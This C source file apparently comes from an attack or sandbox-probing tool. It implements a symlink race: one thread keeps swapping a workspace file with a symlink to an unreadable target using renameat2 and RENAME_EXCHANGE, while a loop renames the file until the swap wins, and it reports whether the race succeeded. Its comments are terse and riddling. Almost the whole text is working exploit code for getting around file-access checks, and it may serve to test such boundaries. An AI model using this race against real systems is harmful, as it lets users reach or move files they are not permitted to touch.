#include "attack.h"
#include "opens.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* What is now a file, always the same one, and now a link to what may not be read. */
static void *keep_changing_kind(void *given)
{
    struct swap *swap = given;
    char *aside = NULL;
    if (asprintf(&aside, "%s.aside", swap->place) < 0 || symlink(swap->other, aside) != 0)
        return NULL;
    while (!swap->over)
        syscall(SYS_renameat2, AT_FDCWD, swap->place, AT_FDCWD, aside, RENAME_EXCHANGE);
    return NULL;
}

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* Its own file goes to where it may go; a link in its place would mislead whoever looks there. What is left aside tells which it was. */
    char *own = in(workspace, "own"), *aside = in(workspace, "own.aside"), *moved = NULL;
    struct stat left;
    int leads = 0;
    struct swap swap = {.place = own, .other = target};
    if (asprintf(&moved, "%s.moved", extra) < 0)
        return 0;
    close(open(own, O_CREAT | O_WRONLY, 0600));
    rename(own, moved); /* undisturbed: what is allowed can be done */
    if (!race_begins(&swap, keep_changing_kind))
        return 0;
    while (!leads && goes_on()) {
        close(open(own, O_CREAT | O_EXCL | O_WRONLY, 0600));
        leads = rename(own, moved) == 0 && lstat(aside, &left) == 0 && S_ISREG(left.st_mode);
    }
    race_ends(&swap);
    return leads;
}
